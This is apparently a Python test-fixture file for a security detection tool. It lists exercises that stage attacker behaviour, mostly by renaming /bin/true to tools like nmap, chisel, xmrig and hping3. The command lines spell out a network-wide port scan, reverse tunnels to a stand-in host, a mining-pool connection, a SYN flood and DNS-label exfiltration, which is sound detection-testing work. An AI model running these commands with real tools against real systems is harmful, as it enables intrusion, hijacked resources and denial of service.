"""Exercises: looking around, tunnels, and what is done with a taken machine. Values only; a stage carries them out."""

from __future__ import annotations

from periderm.model.exercise import Exercise, Variant
from periderm.model.text import Text

EXERCISES: tuple[Exercise, ...] = (
    Exercise(
        id="EXE-048",
        title=Text("Scan ports with a tool", "使用工具扫描端口"),
        detectors=("RUN-048",),
        behaviours=(48,),
        script="cp /bin/true /tmp/nmap; /tmp/nmap -sS -p- 10.0.0.0/8; rm -f /tmp/nmap",
    ),
    Exercise(
        id="EXE-103",
        title=Text("Connect to many ports", "连接大量端口"),
        detectors=("RUN-103",),
        behaviours=(48,),
        language="python",
        variant=Variant.INTERPRETER,
        script=r"""import socket
for port in range(20000, 20120):
    s = socket.socket()
    s.settimeout(0.05)
    s.connect_ex(("127.0.0.1", port))
    s.close()
""",
    ),
    Exercise(
        id="EXE-049",
        title=Text("Find out about the machine", "收集主机信息"),
        detectors=("RUN-049",),
        behaviours=(49,),
        script="whoami; id; uname -a; hostname; env >/dev/null; cat /proc/version; df >/dev/null; ps >/dev/null 2>&1; mount >/dev/null; ls -la /root >/dev/null; cat /etc/os-release >/dev/null; cat /proc/mounts >/dev/null; true",
    ),
    Exercise(
        id="EXE-053",
        title=Text("Open a tunnel", "打开隧道"),
        detectors=("RUN-053",),
        behaviours=(53,),
        script="cp /bin/true /tmp/chisel; /tmp/chisel client 203.0.113.5:443 R:socks; rm -f /tmp/chisel; ssh -V 2>/dev/null; cp /bin/true /tmp/ssh; /tmp/ssh -N -R 2222:localhost:22 u@203.0.113.5; rm -f /tmp/ssh",
    ),
    Exercise(
        id="EXE-104",
        title=Text("Send data in DNS names", "通过 DNS 名称发送数据"),
        detectors=("RUN-104",),
        behaviours=(53,),
        language="python",
        script=r"""import os, socket, struct
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 53))
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for number in range(120):
    labels = [os.urandom(24).hex().encode(), b"t", b"example", b"com"]
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    client.sendto(struct.pack(">6H", number, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 16, 1), ("127.0.0.1", 53))
""",
    ),
    Exercise(
        id="EXE-054",
        title=Text("Name a mining pool", "指定矿池"),
        detectors=("RUN-054",),
        behaviours=(54,),
        script="cp /bin/true /tmp/xmrig; /tmp/xmrig -o stratum+tcp://203.0.113.5:3333 -u wallet; rm -f /tmp/xmrig",
    ),
    Exercise(
        id="EXE-054-NAME",
        title=Text("The same under another name", "改名后同样操作"),
        detectors=("RUN-054",),
        behaviours=(54,),
        variant=Variant.RENAMED,
        script="cp /bin/true /tmp/nginx; /tmp/nginx -o stratum+ssl://203.0.113.5:443 -a rx/0; rm -f /tmp/nginx",
    ),
    Exercise(
        id="EXE-065",
        title=Text("Open a high-risk service", "开放高风险服务"),
        detectors=("RUN-065",),
        behaviours=(65,),
        language="python",
        script=r"""import socket
s = socket.create_server(("0.0.0.0", 23))
s.close()
""",
    ),
    Exercise(
        id="EXE-105",
        title=Text("Give the bandwidth to others", "共享带宽给他人"),
        detectors=("RUN-105",),
        behaviours=(),
        script="cp /bin/true /tmp/traffmonetizer; /tmp/traffmonetizer start accept --token x; rm -f /tmp/traffmonetizer",
    ),
    Exercise(
        id="EXE-108",
        title=Text("Overload others", "对他人发起过载攻击"),
        detectors=("RUN-108",),
        behaviours=(),
        script="cp /bin/true /tmp/hping3; /tmp/hping3 --flood -S 203.0.113.5; rm -f /tmp/hping3",
    ),
    Exercise(
        id="EXE-061",
        title=Text("Read files out by exec", "通过 exec 读出文件"),
        detectors=("RUN-061",),
        behaviours=(61,),
        session=True,
        needs=("tar",),
        script="tar cf - /etc/hostname >/dev/null",
    ),
)
